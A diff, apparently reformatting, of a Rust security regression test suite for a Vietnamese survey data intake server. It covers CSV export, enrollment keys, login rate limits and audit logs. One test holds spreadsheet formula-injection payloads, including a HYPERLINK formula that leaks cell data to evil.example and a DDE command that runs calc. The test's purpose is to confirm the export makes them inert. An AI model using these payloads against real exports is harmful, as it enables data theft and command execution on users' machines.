@@ -16,14 +16,34 @@ use sync_protocol::{
 
 /// A ministry session with the key stored under [`PASSPHRASE`]; returns (session, CSRF token).
 async fn ministry_with_key(server: &TestServer) -> (String, String) {
-    server.intake.store_ministry_key(&intake::demo::fixed_ministry_key(), PASSPHRASE).unwrap();
+    server
+        .intake
+        .store_ministry_key(&intake::demo::fixed_ministry_key(), PASSPHRASE)
+        .unwrap();
     let session = log_in(server, "bonv", MINISTRY_PASSWORD).await.unwrap();
-    let csrf = hidden_csrf(&get(server, "/ministry/index", &session).await.text().await.unwrap());
+    let csrf = hidden_csrf(
+        &get(server, "/ministry/index", &session)
+            .await
+            .text()
+            .await
+            .unwrap(),
+    );
     (session, csrf)
 }
 
-async fn post_form(server: &TestServer, path: &str, session: &str, form: &[(&str, &str)]) -> reqwest::Response {
-    client().post(format!("{}{path}", server.base)).header(header::COOKIE, format!("fp_session={session}")).form(form).send().await.unwrap()
+async fn post_form(
+    server: &TestServer,
+    path: &str,
+    session: &str,
+    form: &[(&str, &str)],
+) -> reqwest::Response {
+    client()
+        .post(format!("{}{path}", server.base))
+        .header(header::COOKIE, format!("fp_session={session}"))
+        .form(form)
+        .send()
+        .await
+        .unwrap()
 }
 
 /// Item 1: one tablet's well-formed but undecryptable sheet used to stop the index and both
@@ -33,12 +53,20 @@ async fn post_form(server: &TestServer, path: &str, session: &str, form: &[(&str
 async fn item_1_an_undecryptable_sheet_is_set_aside_and_named_and_the_index_still_computes() {
     let server = setup().await;
     let mut device = server.enroll("enum-dh-p2").await;
-    let hs: Vec<(String, String)> = server.households("enum-dh-p2").into_iter().take(2).collect();
+    let hs: Vec<(String, String)> = server
+        .households("enum-dh-p2")
+        .into_iter()
+        .take(2)
+        .collect();
     let mut hostile = vec![1u8; 32];
     hostile.extend((0..200).map(|_| rand::random::<u8>()));
     let mut events = Vec::new();
     for h in &hs {
-        events.extend([device.distributed(h), device.collected(h), device.transcribed(h)]);
+        events.extend([
+            device.distributed(h),
+            device.collected(h),
+            device.transcribed(h),
+        ]);
     }
     events.push(verified_form(&server, &device, &hs[0], 0));
     events.push(device.verified_with(&hs[1], Base64Bytes(hostile)));
@@ -53,22 +81,74 @@ async fn item_1_an_undecryptable_sheet_is_set_aside_and_named_and_the_index_stil
         let html = page.text().await.unwrap();
         assert!(html.contains("1 phiếu không mở được"), "{html}");
         let listed = &html[html.find("id=\"unopenable\"").unwrap()..];
-        assert!(listed.contains(&hs[1].0) && listed.contains(&hs[1].1) && listed.contains(&device.id.to_string()));
-        let name = &server.campaign.enumerators.iter().find(|e| e.id == "enum-dh-p2").unwrap().name;
-        assert!(listed.contains(name.as_str()), "the enumerator by name: {listed}");
+        assert!(
+            listed.contains(&hs[1].0)
+                && listed.contains(&hs[1].1)
+                && listed.contains(&device.id.to_string())
+        );
+        let name = &server
+            .campaign
+            .enumerators
+            .iter()
+            .find(|e| e.id == "enum-dh-p2")
+            .unwrap()
+            .name;
+        assert!(
+            listed.contains(name.as_str()),
+            "the enumerator by name: {listed}"
+        );
     }
-    let json: serde_json::Value = post_form(&server, "/api/ministry/index", &session, &form).await.json().await.unwrap();
-    assert_eq!(json["index"]["national"]["forms"], 1, "the good sheet counts, the bad one does not");
+    let json: serde_json::Value = post_form(&server, "/api/ministry/index", &session, &form)
+        .await
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(
+        json["index"]["national"]["forms"], 1,
+        "the good sheet counts, the bad one does not"
+    );
     assert_eq!(json["unopenable"][0]["household"], hs[1].0.as_str());
-    for path in ["/ministry/answers.csv", "/ministry/answers.xlsx", "/ministry/index.csv"] {
+    for path in [
+        "/ministry/answers.csv",
+        "/ministry/answers.xlsx",
+        "/ministry/index.csv",
+    ] {
         let r = post_form(&server, path, &session, &form).await;
-        assert_eq!(r.status(), StatusCode::OK, "{path}: {}", r.text().await.unwrap_or_default());
+        assert_eq!(
+            r.status(),
+            StatusCode::OK,
+            "{path}: {}",
+            r.text().await.unwrap_or_default()
+        );
     }
-    let csv = post_form(&server, "/ministry/answers.csv", &session, &form).await.text().await.unwrap();
-    assert!(csv.lines().any(|l| l.starts_with(&format!("{},{}", hs[1].0, hs[1].1)) && l.contains("KHÔNG MỞ ĐƯỢC")), "{csv}");
-    let alerts: Vec<_> = server.intake.store.alerts().unwrap().into_iter().filter(|a| a.kind == "sealed_answers_unopenable").collect();
-    assert_eq!(alerts.len(), 1, "one alert, however often the index is computed");
-    assert_eq!((alerts[0].device, alerts[0].enumerator.as_deref()), (Some(device.id), Some("enum-dh-p2")));
+    let csv = post_form(&server, "/ministry/answers.csv", &session, &form)
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        csv.lines()
+            .any(|l| l.starts_with(&format!("{},{}", hs[1].0, hs[1].1))
+                && l.contains("KHÔNG MỞ ĐƯỢC")),
+        "{csv}"
+    );
+    let alerts: Vec<_> = server
+        .intake
+        .store
+        .alerts()
+        .unwrap()
+        .into_iter()
+        .filter(|a| a.kind == "sealed_answers_unopenable")
+        .collect();
+    assert_eq!(
+        alerts.len(),
+        1,
+        "one alert, however often the index is computed"
+    );
+    assert_eq!(
+        (alerts[0].device, alerts[0].enumerator.as_deref()),
+        (Some(device.id), Some("enum-dh-p2"))
+    );
 }
 
 /// Item 2: free text starting with `=`, `+`, `-`, `@`, tab or CR came out of `answers.csv` as a
@@ -78,31 +158,80 @@ async fn item_2_answers_csv_carries_no_live_formula() {
     let server = setup().await;
     let mut device = server.enroll("enum-dh-p2").await;
     let form = forms::sipas_2024();
-    let text_question = form.questions.iter().find(|q| matches!(q.accepts, forms::load::Accepts::Text { .. }) && q.relevant.is_none()).unwrap().id.clone();
-    let payloads = ["=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tthẻ", "\rxuống dòng"];
-    let hs: Vec<(String, String)> = server.households("enum-dh-p2").into_iter().take(payloads.len()).collect();
+    let text_question = form
+        .questions
+        .iter()
+        .find(|q| matches!(q.accepts, forms::load::Accepts::Text { .. }) && q.relevant.is_none())
+        .unwrap()
+        .id
+        .clone();
+    let payloads = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tthẻ",
+        "\rxuống dòng",
+    ];
+    let hs: Vec<(String, String)> = server
+        .households("enum-dh-p2")
+        .into_iter()
+        .take(payloads.len())
+        .collect();
     let mut events = Vec::new();
     for (h, payload) in hs.iter().zip(payloads) {
         let mut answers = forms::sample::complete_answers(&form, 0);
         answers.insert(text_question.clone(), serde_json::json!(payload));
-        let sheet = sync_protocol::seal::AnswerSheet { form: form.reference(), household: h.0.clone(), serial: h.1.clone(), answers };
-        let sealed = sync_protocol::seal::seal(&server.ministry.public(), &sheet, &form.question_order(), &mut rand::rngs::OsRng).unwrap();
-        events.extend([device.distributed(h), device.collected(h), device.transcribed(h), device.verified_with(h, Base64Bytes(sealed))]);
+        let sheet = sync_protocol::seal::AnswerSheet {
+            form: form.reference(),
+            household: h.0.clone(),
+            serial: h.1.clone(),
+            answers,
+        };
+        let sealed = sync_protocol::seal::seal(
+            &server.ministry.public(),
+            &sheet,
+            &form.question_order(),
+            &mut rand::rngs::OsRng,
+        )
+        .unwrap();
+        events.extend([
+            device.distributed(h),
+            device.collected(h),
+            device.transcribed(h),
+            device.verified_with(h, Base64Bytes(sealed)),
+        ]);
     }
     let batch = device.next_batch(events);
     assert_eq!(server.post_frame(batch.to_frame()).await.0, 201);
     let (session, csrf) = ministry_with_key(&server).await;
-    let csv = post_form(&server, "/ministry/answers.csv", &session, &[("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)]).await.text().await.unwrap();
-    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
+    let csv = post_form(
+        &server,
+        "/ministry/answers.csv",
+        &session,
+        &[("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)],
+    )
+    .await
+    .text()
+    .await
+    .unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv.as_bytes());
     let mut seen = 0;
     for record in reader.records() {
         for cell in record.unwrap().iter() {
-            let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
+            let live =
+                cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
             assert!(!live, "a live formula in answers.csv: {cell:?}");
             seen += payloads.iter().filter(|p| cell == format!("'{p}")).count();
         }
     }
-    assert_eq!(seen, payloads.len(), "every payload is kept, made inert:\n{csv}");
+    assert_eq!(
+        seen,
+        payloads.len(),
+        "every payload is kept, made inert:\n{csv}"
+    );
 }
 
 /// Item 11a: an Ed25519 key of small order (the identity point) was accepted at enrollment.
@@ -113,12 +242,32 @@ async fn item_11a_a_small_order_device_key_is_refused_at_enrollment() {
     identity[0] = 1;
     assert!(PublicKey::from_bytes(&identity).is_err());
     let body = serde_json::json!({ "code": server.code("enum-dh-p2"), "public_key": sync_protocol::keys::b64(&identity), "label": "x" });
-    let r = server.http.post(format!("{}{}", server.base, api::PATH_ENROLL)).json(&body).send().await.unwrap();
+    let r = server
+        .http
+        .post(format!("{}{}", server.base, api::PATH_ENROLL))
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), StatusCode::BAD_REQUEST);
     // The code is still good for a real device.
     let key = DeviceKey::generate(&mut rand::rngs::OsRng);
-    let real = EnrollRequest { code: body["code"].as_str().unwrap().into(), public_key: key.public(), label: "tablet".into() };
-    assert_eq!(server.http.post(format!("{}{}", server.base, api::PATH_ENROLL)).json(&real).send().await.unwrap().status(), StatusCode::CREATED);
+    let real = EnrollRequest {
+        code: body["code"].as_str().unwrap().into(),
+        public_key: key.public(),
+        label: "tablet".into(),
+    };
+    assert_eq!(
+        server
+            .http
+            .post(format!("{}{}", server.base, api::PATH_ENROLL))
+            .json(&real)
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        StatusCode::CREATED
+    );
 }
 
 /// Item 11b: a first keying carrying sealed answers in a campaign that verifies
@@ -128,14 +277,27 @@ async fn item_11b_answers_on_a_first_keying_are_refused_where_keyings_are_verifi
     let server = TestServer::start().await;
     let mut device = server.enroll("enum-dh-p2").await;
     let h = server.households("enum-dh-p2")[0].clone();
-    let skipping = device.event(&h, EventBody::FormTranscribed { form: "sipas-2024@1".into(), sealed_answers: Some(device.sealed(&h)), keying_seconds: 90 });
+    let skipping = device.event(
+        &h,
+        EventBody::FormTranscribed {
+            form: "sipas-2024@1".into(),
+            sealed_answers: Some(device.sealed(&h)),
+            keying_seconds: 90,
+        },
+    );
     let batch = device.next_batch(vec![device.distributed(&h), device.collected(&h), skipping]);
     let (status, body) = server.post_frame(batch.to_frame()).await;
     assert_eq!(status, 201);
     let outcome = &device.outcomes(&body, &batch, 1)[2];
-    assert_eq!((outcome.status, outcome.code.as_deref()), (OutcomeStatus::Rejected, Some("answers_unexpected")));
+    assert_eq!(
+        (outcome.status, outcome.code.as_deref()),
+        (OutcomeStatus::Rejected, Some("answers_unexpected"))
+    );
     assert_eq!(server.status(&h.0), "collected");
-    assert!(server.intake.store.sealed_forms().unwrap().is_empty(), "nothing to export as verified");
+    assert!(
+        server.intake.store.sealed_forms().unwrap().is_empty(),
+        "nothing to export as verified"
+    );
 }
 
 /// Item 11c: a second replacement in one village inside one batch was refused ("no reserve
@@ -149,15 +311,32 @@ async fn item_11c_two_replacements_in_one_batch_take_consecutive_reserves() {
     assert!(reserve.len() >= 2);
     let batch = device.next_batch(vec![
         device.outcome(&hs[0], sync_protocol::event::VisitOutcome::Refused),
-        device.event(&hs[0], EventBody::HouseholdReplaced { replacement: reserve[0].0.clone() }),
+        device.event(
+            &hs[0],
+            EventBody::HouseholdReplaced {
+                replacement: reserve[0].0.clone(),
+            },
+        ),
         device.outcome(&hs[1], sync_protocol::event::VisitOutcome::Refused),
-        device.event(&hs[1], EventBody::HouseholdReplaced { replacement: reserve[1].0.clone() }),
+        device.event(
+            &hs[1],
+            EventBody::HouseholdReplaced {
+                replacement: reserve[1].0.clone(),
+            },
+        ),
     ]);
     let (status, body) = server.post_frame(batch.to_frame()).await;
     assert_eq!(status, 201);
-    let codes: Vec<Option<String>> = device.outcomes(&body, &batch, 1).into_iter().map(|o| o.code).collect();
+    let codes: Vec<Option<String>> = device
+        .outcomes(&body, &batch, 1)
+        .into_iter()
+        .map(|o| o.code)
+        .collect();
     assert_eq!(codes, [None, None, None, None]);
-    assert_eq!((server.status(&reserve[0].0), server.status(&reserve[1].0)), ("assigned".to_string(), "assigned".to_string()));
+    assert_eq!(
+        (server.status(&reserve[0].0), server.status(&reserve[1].0)),
+        ("assigned".to_string(), "assigned".to_string())
+    );
 }
 
 /// Item 11d: a revoked device retrying a batch accepted before the revocation got 403 and
@@ -170,7 +349,11 @@ async fn item_11d_a_revoked_device_retrying_accepted_work_gets_its_receipt_and_n
     let accepted = device.next_batch(vec![device.distributed(&h)]);
     let (status, first) = server.post_frame(accepted.to_frame()).await;
     assert_eq!(status, 201);
-    server.intake.store.revoke_device(device.id, "tablet stolen", chrono::Utc::now()).unwrap();
+    server
+        .intake
+        .store
+        .revoke_device(device.id, "tablet stolen", chrono::Utc::now())
+        .unwrap();
     for _ in 0..3 {
         let (status, again) = server.post_frame(accepted.to_frame()).await;
         assert_eq!((status, &again), (200, &first), "the same receipt");
@@ -179,19 +362,35 @@ async fn item_11d_a_revoked_device_retrying_accepted_work_gets_its_receipt_and_n
     assert!(server.intake.store.alerts().unwrap().is_empty());
     let new_work = device.next_batch(vec![device.collected(&h)]);
     let (status, body) = server.post_frame(new_work.to_frame()).await;
-    assert_eq!((status, support::error_code(&body).as_str()), (403, "device_revoked"));
+    assert_eq!(
+        (status, support::error_code(&body).as_str()),
+        (403, "device_revoked")
+    );
     assert_eq!(server.intake.store.alerts().unwrap().len(), 1);
 }
 
-async fn log_in_from(server: &TestServer, login: &str, password: &str, forwarded_for: &str) -> StatusCode {
+async fn log_in_from(
+    server: &TestServer,
+    login: &str,
+    password: &str,
+    forwarded_for: &str,
+) -> StatusCode {
     let http = client();
-    let page = http.get(format!("{}/login", server.base)).send().await.unwrap();
+    let page = http
+        .get(format!("{}/login", server.base))
+        .send()
+        .await
+        .unwrap();
     let pre = cookie_value(&page, "fp_login_csrf").unwrap();
     let csrf = hidden_csrf(&page.text().await.unwrap());
     http.post(format!("{}/login", server.base))
         .header(header::COOKIE, format!("fp_login_csrf={pre}"))
         .header("x-forwarded-for", forwarded_for)
-        .form(&[("login", login), ("password", password), ("csrf", csrf.as_str())])
+        .form(&[
+            ("login", login),
+            ("password", password),
+            ("csrf", csrf.as_str()),
+        ])
         .send()
         .await
         .unwrap()
@@ -199,9 +398,22 @@ async fn log_in_from(server: &TestServer, login: &str, password: &str, forwarded
 }
 
 async fn admin_session(server: &TestServer) -> (String, String) {
-    let admin = intake::accounts::Account { login: "qt".into(), name: "Quản trị viên".into(), role: intake::accounts::Role::Admin, districts: vec![], password_hash: Some(intake::accounts::hash_password("quản trị viên mật khẩu dài").unwrap()), disabled: false };
-    server.intake.store.upsert_account(&admin, chrono::Utc::now()).unwrap();
-    let session = log_in(server, "qt", "quản trị viên mật khẩu dài").await.unwrap();
+    let admin = intake::accounts::Account {
+        login: "qt".into(),
+        name: "Quản trị viên".into(),
+        role: intake::accounts::Role::Admin,
+        districts: vec![],
+        password_hash: Some(intake::accounts::hash_password("quản trị viên mật khẩu dài").unwrap()),
+        disabled: false,
+    };
+    server
+        .intake
+        .store
+        .upsert_account(&admin, chrono::Utc::now())
+        .unwrap();
+    let session = log_in(server, "qt", "quản trị viên mật khẩu dài")
+        .await
+        .unwrap();
     let csrf = hidden_csrf(&get(server, "/admin", &session).await.text().await.unwrap());
     (session, csrf)
 }
@@ -222,34 +434,81 @@ async fn item_3_account_changes_end_sessions_and_accounts_can_be_disabled_and_de
         let (admin, csrf) = (admin.clone(), csrf.clone());
         let server = &server;
         async move {
-            let form = [("csrf", csrf.as_str()), ("login", "gs-dh"), ("name", "Giám sát Đông Hà"), ("role", role), ("districts", districts), ("password", password)];
-            post_form(server, "/admin/account", &admin, &form).await.text().await.unwrap()
+            let form = [
+                ("csrf", csrf.as_str()),
+                ("login", "gs-dh"),
+                ("name", "Giám sát Đông Hà"),
+                ("role", role),
+                ("districts", districts),
+                ("password", password),
+            ];
+            post_form(server, "/admin/account", &admin, &form)
+                .await
+                .text()
+                .await
+                .unwrap()
         }
     };
     // A new password ends the old session.
     let old = log_in(&server, "gs-dh", PASSWORD).await.unwrap();
-    assert!(save("một mật khẩu mới khá dài", "supervisor", "dh").await.contains("Đã lưu"));
-    assert!(!still_signed_in(&server, &old).await, "the session from before the new password is over");
+    assert!(save("một mật khẩu mới khá dài", "supervisor", "dh")
+        .await
+        .contains("Đã lưu"));
+    assert!(
+        !still_signed_in(&server, &old).await,
+        "the session from before the new password is over"
+    );
     // So does a change of districts.
-    let s = log_in(&server, "gs-dh", "một mật khẩu mới khá dài").await.unwrap();
-    let form = [("csrf", csrf.as_str()), ("login", "gs-dh"), ("name", "Giám sát"), ("role", "supervisor"), ("districts", "dh, qt"), ("password", "một mật khẩu mới khá dài")];
+    let s = log_in(&server, "gs-dh", "một mật khẩu mới khá dài")
+        .await
+        .unwrap();
+    let form = [
+        ("csrf", csrf.as_str()),
+        ("login", "gs-dh"),
+        ("name", "Giám sát"),
+        ("role", "supervisor"),
+        ("districts", "dh, qt"),
+        ("password", "một mật khẩu mới khá dài"),
+    ];
     post_form(&server, "/admin/account", &admin, &form).await;
     assert!(!still_signed_in(&server, &s).await);
     // Password rules: common ones and short ones are refused, whatever their case.
-    assert!(save("MatKhau12345", "supervisor", "dh").await.contains("quá phổ biến"));
-    assert!(save("ngắn quá", "supervisor", "dh").await.contains("ít nhất 12"));
+    assert!(save("MatKhau12345", "supervisor", "dh")
+        .await
+        .contains("quá phổ biến"));
+    assert!(save("ngắn quá", "supervisor", "dh")
+        .await
+        .contains("ít nhất 12"));
     // The same Vietnamese password typed decomposed (NFD) logs in.
     let composed = "mật khẩu tiếng Việt có dấu";
     save(composed, "supervisor", "dh").await;
     let decomposed: String = unicode_normalization::UnicodeNormalization::nfd(composed).collect();
     assert_ne!(decomposed, composed);
-    let s = log_in(&server, "gs-dh", &decomposed).await.expect("NFD and NFC are one password");
+    let s = log_in(&server, "gs-dh", &decomposed)
+        .await
+        .expect("NFD and NFC are one password");
 
     // Disabled: the session ends and even the right password is refused; enabled again, it works.
     let act = |action: &'static str, confirm: &'static str| {
         let (admin, csrf) = (admin.clone(), csrf.clone());
         let server = &server;
-        async move { post_form(server, "/admin/account/action", &admin, &[("csrf", csrf.as_str()), ("login", "gs-dh"), ("action", action), ("confirm", confirm)]).await.text().await.unwrap() }
+        async move {
+            post_form(
+                server,
+                "/admin/account/action",
+                &admin,
+                &[
+                    ("csrf", csrf.as_str()),
+                    ("login", "gs-dh"),
+                    ("action", action),
+                    ("confirm", confirm),
+                ],
+            )
+            .await
+            .text()
+            .await
+            .unwrap()
+        }
     };
     act("disable", "").await;
     assert!(!still_signed_in(&server, &s).await);
@@ -264,9 +523,25 @@ async fn item_3_account_changes_end_sessions_and_accounts_can_be_disabled_and_de
     assert!(server.intake.store.account("gs-dh").unwrap().is_none());
     assert!(log_in(&server, "gs-dh", composed).await.is_err());
     let log = server.intake.store.audit_log(200).unwrap();
-    assert!(log.iter().any(|e| e.action == "account_deleted" && e.detail.contains("gs-dh") && e.detail.contains("Giám sát") && e.login == "qt"));
+    assert!(log.iter().any(|e| e.action == "account_deleted"
+        && e.detail.contains("gs-dh")
+        && e.detail.contains("Giám sát")
+        && e.login == "qt"));
     // An admin cannot lock themselves out.
-    let own = post_form(&server, "/admin/account/action", &admin, &[("csrf", csrf.as_str()), ("login", "qt"), ("action", "disable")]).await.text().await.unwrap();
+    let own = post_form(
+        &server,
+        "/admin/account/action",
+        &admin,
+        &[
+            ("csrf", csrf.as_str()),
+            ("login", "qt"),
+            ("action", "disable"),
+        ],
+    )
+    .await
+    .text()
+    .await
+    .unwrap();
     assert!(own.contains("Không thực hiện được"));
 }
 
@@ -278,12 +553,28 @@ async fn item_4_huge_login_names_cannot_fill_the_disk() {
     let db = server.dir.path().join("intake.db");
     let huge = "x".repeat(1024 * 1024);
     for _ in 0..5 {
-        assert_eq!(log_in(&server, &huge, "whatever it is").await.unwrap_err().status(), StatusCode::UNAUTHORIZED);
+        assert_eq!(
+            log_in(&server, &huge, "whatever it is")
+                .await
+                .unwrap_err()
+                .status(),
+            StatusCode::UNAUTHORIZED
+        );
     }
     let log = server.intake.store.audit_log(20).unwrap();
-    assert!(log.iter().all(|e| e.login.chars().count() <= intake::store::AUDIT_LOGIN_MAX + 1), "login names are cut");
-    let size = std::fs::metadata(&db).unwrap().len() + std::fs::metadata(db.with_extension("db-wal")).map(|m| m.len()).unwrap_or(0);
-    assert!(size < 4 * 1024 * 1024, "5 MB of names did not reach the disk: {size} bytes");
+    assert!(
+        log.iter()
+            .all(|e| e.login.chars().count() <= intake::store::AUDIT_LOGIN_MAX + 1),
+        "login names are cut"
+    );
+    let size = std::fs::metadata(&db).unwrap().len()
+        + std::fs::metadata(db.with_extension("db-wal"))
+            .map(|m| m.len())
+            .unwrap_or(0);
+    assert!(
+        size < 4 * 1024 * 1024,
+        "5 MB of names did not reach the disk: {size} bytes"
+    );
 }
 
 /// Item 5: wrong passphrases were unlimited (each costs 64 MiB of argon2). Now five per
@@ -292,27 +583,89 @@ async fn item_4_huge_login_names_cannot_fill_the_disk() {
 async fn item_5_wrong_passphrases_are_limited_per_account() {
     let server = setup().await;
     let (session, csrf) = ministry_with_key(&server).await;
-    let attempts: Vec<_> = (0..8).map(|i| {
-        let (session, csrf, base) = (session.clone(), csrf.clone(), server.base.clone());
-        tokio::spawn(async move {
-            let form = [("csrf", csrf.as_str()), ("passphrase", &*format!("a wrong passphrase number {i}"))];
-            client().post(format!("{base}/ministry/index")).header(header::COOKIE, format!("fp_session={session}")).form(&form).send().await.unwrap().status()
+    let attempts: Vec<_> = (0..8)
+        .map(|i| {
+            let (session, csrf, base) = (session.clone(), csrf.clone(), server.base.clone());
+            tokio::spawn(async move {
+                let form = [
+                    ("csrf", csrf.as_str()),
+                    ("passphrase", &*format!("a wrong passphrase number {i}")),
+                ];
+                client()
+                    .post(format!("{base}/ministry/index"))
+                    .header(header::COOKIE, format!("fp_session={session}"))
+                    .form(&form)
+                    .send()
+                    .await
+                    .unwrap()
+                    .status()
+            })
         })
-    }).collect();
+        .collect();
     let mut statuses = Vec::new();
     for a in attempts {
         statuses.push(a.await.unwrap());
     }
-    assert_eq!(statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count(), 5, "{statuses:?}");
-    assert_eq!(statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count(), 3);
+    assert_eq!(
+        statuses
+            .iter()
+            .filter(|s| **s == StatusCode::UNAUTHORIZED)
+            .count(),
+        5,
+        "{statuses:?}"
+    );
+    assert_eq!(
+        statuses
+            .iter()
+            .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
+            .count(),
+        3
+    );
     // Even the right one waits now, for this account…
-    assert_eq!(post_form(&server, "/ministry/index", &session, &[("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)]).await.status(), StatusCode::TOO_MANY_REQUESTS);
+    assert_eq!(
+        post_form(
+            &server,
+            "/ministry/index",
+            &session,
+            &[("csrf", csrf.as_str()), ("passphrase", PASSPHRASE)]
+        )
+        .await
+        .status(),
+        StatusCode::TOO_MANY_REQUESTS
+    );
     // …but not for a colleague.
-    let colleague = intake::accounts::Account { login: "bonv2".into(), name: "Vụ CCHC".into(), role: intake::accounts::Role::Ministry, districts: vec![], password_hash: Some(intake::accounts::hash_password(MINISTRY_PASSWORD).unwrap()), disabled: false };
-    server.intake.store.upsert_account(&colleague, chrono::Utc::now()).unwrap();
+    let colleague = intake::accounts::Account {
+        login: "bonv2".into(),
+        name: "Vụ CCHC".into(),
+        role: intake::accounts::Role::Ministry,
+        districts: vec![],
+        password_hash: Some(intake::accounts::hash_password(MINISTRY_PASSWORD).unwrap()),
+        disabled: false,
+    };
+    server
+        .intake
+        .store
+        .upsert_account(&colleague, chrono::Utc::now())
+        .unwrap();
     let other = log_in(&server, "bonv2", MINISTRY_PASSWORD).await.unwrap();
-    let other_csrf = hidden_csrf(&get(&server, "/ministry/index", &other).await.text().await.unwrap());
-    assert_eq!(post_form(&server, "/ministry/index", &other, &[("csrf", other_csrf.as_str()), ("passphrase", PASSPHRASE)]).await.status(), StatusCode::OK);
+    let other_csrf = hidden_csrf(
+        &get(&server, "/ministry/index", &other)
+            .await
+            .text()
+            .await
+            .unwrap(),
+    );
+    assert_eq!(
+        post_form(
+            &server,
+            "/ministry/index",
+            &other,
+            &[("csrf", other_csrf.as_str()), ("passphrase", PASSPHRASE)]
+        )
+        .await
+        .status(),
+        StatusCode::OK
+    );
 }
 
 /// Item 6: 25 logins × 4 passwords from one address were never limited; behind a proxy every
@@ -320,31 +673,67 @@ async fn item_5_wrong_passphrases_are_limited_per_account() {
 /// logins, the client address comes from `X-Forwarded-For` only through a named proxy, and the
 /// counts live in the store.
 #[tokio::test(flavor = "multi_thread")]
-async fn item_6_spraying_is_limited_proxies_are_trusted_only_when_named_and_limits_survive_a_restart() {
+async fn item_6_spraying_is_limited_proxies_are_trusted_only_when_named_and_limits_survive_a_restart(
+) {
     let server = setup().await;
     let mut refused = 0;
     for login in 0..25 {
         for password in 0..4 {
-            if log_in_from(&server, &format!("user{login}"), &format!("password guess {password}"), "203.0.113.9").await == StatusCode::TOO_MANY_REQUESTS {
+            if log_in_from(
+                &server,
+                &format!("user{login}"),
+                &format!("password guess {password}"),
+                "203.0.113.9",
+            )
+            .await
+                == StatusCode::TOO_MANY_REQUESTS
+            {
                 refused += 1;
             }
         }
     }
-    assert_eq!(refused, 100 - intake::accounts::LOGIN_LIMITS.address as usize, "the address's budget ran out, whatever X-Forwarded-For said");
+    assert_eq!(
+        refused,
+        100 - intake::accounts::LOGIN_LIMITS.address as usize,
+        "the address's budget ran out, whatever X-Forwarded-For said"
+    );
     // A restart (a new intake over the same database) still refuses that address.
     let reopened = intake::open(server.dir.path()).unwrap();
-    assert!(matches!(reopened.log_in("user0", "another guess", "127.0.0.1"), Err(intake::error::IntakeError::RateLimited { .. })));
+    assert!(matches!(
+        reopened.log_in("user0", "another guess", "127.0.0.1"),
+        Err(intake::error::IntakeError::RateLimited { .. })
+    ));
 
     // Behind a named proxy, the address is the client's: one office's mistakes do not lock out another.
-    let proxied = TestServer::start_configured(|_| {}, |i| i.trusted_proxies = vec!["127.0.0.1".parse().unwrap()]).await;
-    proxied.intake.store.set_password("gs-dh", &intake::accounts::hash_password(PASSWORD).unwrap()).unwrap();
+    let proxied = TestServer::start_configured(
+        |_| {},
+        |i| i.trusted_proxies = vec!["127.0.0.1".parse().unwrap()],
+    )
+    .await;
+    proxied
+        .intake
+        .store
+        .set_password("gs-dh", &intake::accounts::hash_password(PASSWORD).unwrap())
+        .unwrap();
     for _ in 0..5 {
-        assert_eq!(log_in_from(&proxied, "gs-dh", "wrong password here", "198.51.100.7").await, StatusCode::UNAUTHORIZED);
+        assert_eq!(
+            log_in_from(&proxied, "gs-dh", "wrong password here", "198.51.100.7").await,
+            StatusCode::UNAUTHORIZED
+        );
     }
-    assert_eq!(log_in_from(&proxied, "gs-dh", PASSWORD, "198.51.100.7").await, StatusCode::TOO_MANY_REQUESTS);
-    assert_eq!(log_in_from(&proxied, "gs-dh", PASSWORD, "198.51.100.8").await, StatusCode::SEE_OTHER, "another office still logs in");
+    assert_eq!(
+        log_in_from(&proxied, "gs-dh", PASSWORD, "198.51.100.7").await,
+        StatusCode::TOO_MANY_REQUESTS
+    );
+    assert_eq!(
+        log_in_from(&proxied, "gs-dh", PASSWORD, "198.51.100.8").await,
+        StatusCode::SEE_OTHER,
+        "another office still logs in"
+    );
     let log = proxied.intake.store.audit_log(50).unwrap();
-    assert!(log.iter().any(|e| e.action == "login_failed" && e.address == "198.51.100.7"));
+    assert!(log
+        .iter()
+        .any(|e| e.action == "login_failed" && e.address == "198.51.100.7"));
 }
 
 /// Item 9: refusals, CSRF failures, wrong passphrases on exports, reads of household lists,
@@ -354,17 +743,63 @@ async fn item_6_spraying_is_limited_proxies_are_trusted_only_when_named_and_limi
 async fn item_9_every_refusal_read_and_logout_is_audited_and_admins_can_read_the_log() {
     let server = setup().await;
     let supervisor = log_in(&server, "gs-dh", PASSWORD).await.unwrap();
-    assert_eq!(get(&server, "/progress/district/qt", &supervisor).await.status(), StatusCode::NOT_FOUND);
-    assert_eq!(get(&server, "/ministry/reconciliation", &supervisor).await.status(), StatusCode::NOT_FOUND);
-    assert_eq!(post_form(&server, "/reassign", &supervisor, &[("csrf", "forged"), ("village", "dh-p2-kp1"), ("to", "enum-dh-p4"), ("reason", "x")]).await.status(), StatusCode::FORBIDDEN);
+    assert_eq!(
+        get(&server, "/progress/district/qt", &supervisor)
+            .await
+            .status(),
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        get(&server, "/ministry/reconciliation", &supervisor)
+            .await
+            .status(),
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        post_form(
+            &server,
+            "/reassign",
+            &supervisor,
+            &[
+                ("csrf", "forged"),
+                ("village", "dh-p2-kp1"),
+                ("to", "enum-dh-p4"),
+                ("reason", "x")
+            ]
+        )
+        .await
+        .status(),
+        StatusCode::FORBIDDEN
+    );
     let (ministry, csrf) = ministry_with_key(&server).await;
